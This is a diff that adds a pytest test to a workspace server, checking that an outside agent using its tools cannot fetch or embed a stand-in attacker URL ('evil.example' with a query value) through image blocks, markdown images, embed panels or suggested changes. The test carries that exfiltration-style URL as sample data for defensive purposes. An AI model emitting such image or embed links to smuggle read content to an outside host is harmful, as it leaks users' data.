@@ -83,6 +83,36 @@ async def test_a_key_may_no_more_than_its_scopes_and_its_person(ionflux: Ionflux
             assert told in text_of(result)
 
 
+async def test_what_an_agent_from_outside_has_shown_asks_no_host(ionflux: IonfluxServer):
+    """Whoever has its tools and nothing else cannot be made to carry off by them what it has read."""
+    ann = await ionflux.person("Ann")
+    workspace = await ann.workspace()
+    page = await ann.page(workspace)
+    known, away = "https://cats.example/cat.png", "https://evil.example/?it=90000"
+    await ann.post(f"/v1/pages/{page.id}/blocks", {"type": "image", "content": {"url": known}})
+    async with connected(ionflux, await key_of(ann, workspace, "*:write")) as client:
+        assert "fetch_url" not in {tool.name for tool in (await client.list_tools()).tools}
+        for name, more in (
+            ("fetch_url", {"url": away}),
+            ("create_page", {"title": "New", "markdown": f"![x]({away})"}),
+            ("add_text", {"page_id": page.id, "markdown": f"![x]({away})"}),
+            ("add_block", {"page_id": page.id, "type": "image", "content": {"url": away}}),
+            ("add_block", {"page_id": page.id, "type": "embed_panel", "content": {"url": away}}),
+            (
+                "suggest_changes",
+                {"page_id": page.id, "note": "n", "changes": [{"markdown": f"![x]({away})"}]},
+            ),
+        ):
+            result: Any = await client.call_tool(name, more)
+            assert result.is_error, name
+            assert "no person has named" in text_of(result) or "There is no tool" in text_of(result), name
+        for name, more in (
+            ("add_text", {"page_id": page.id, "markdown": f"[x]({away}) ![cat]({known})"}),
+            ("add_block", {"page_id": page.id, "type": "image", "content": {"url": known}}),
+        ):
+            assert not (await client.call_tool(name, more)).is_error, name
+
+
 @pytest.mark.node
 async def test_an_agent_from_outside_is_shown_where_it_is_at_work(studio: Studio):
     watcher = await studio.join("hocuspocus")
